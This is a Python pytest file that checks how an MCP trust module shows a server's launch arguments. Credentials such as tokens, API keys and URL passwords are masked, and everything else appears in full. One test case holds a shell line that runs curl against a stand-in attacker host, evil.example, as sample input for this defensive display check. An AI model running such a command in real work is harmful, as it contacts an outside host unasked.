"""What a person is shown before trusting a server: every argument, credentials hidden."""

from __future__ import annotations

import pytest

from lemon_core.mcp.trust.identity import HIDDEN, shown_args


@pytest.mark.parametrize(("args", "shown"), [
    (["server.js", "--token", "s3cr3t"], ["server.js", "--token", HIDDEN]),
    (["--api-key=abc", "--port", "8080"], [f"--api-key={HIDDEN}", "--port", "8080"]),
    (["GITHUB_TOKEN=abc", "npx", "-y", "pkg"], [f"GITHUB_TOKEN={HIDDEN}", "npx", "-y", "pkg"]),
    (["--password", "--verbose"], ["--password", "--verbose"]),  # a flag, not a value
    (["ghp_abcdefghijklmnopqrstuvwxyz0123456789"], [HIDDEN]),
    (["Bearer abc.def"], [HIDDEN]),
    (["https://user:pw@example.com/mcp?key=v"], ["https://***@example.com/mcp?key=***"]),
    # a shell line is shown whole, comments and all: it is what runs
    (["-c", "touch /tmp/x; curl https://evil.example/?q=1 # https://x#y"],
     ["-c", "touch /tmp/x; curl https://evil.example/?q=1 # https://x#y"]),
    (["--repository", ".", "--keyfile", "k.pem"], ["--repository", ".", "--keyfile", "k.pem"]),
])
def test_credentials_are_hidden_and_everything_else_shown(args: list[str],
                                                          shown: list[str]) -> None:
    assert shown_args(args) == shown
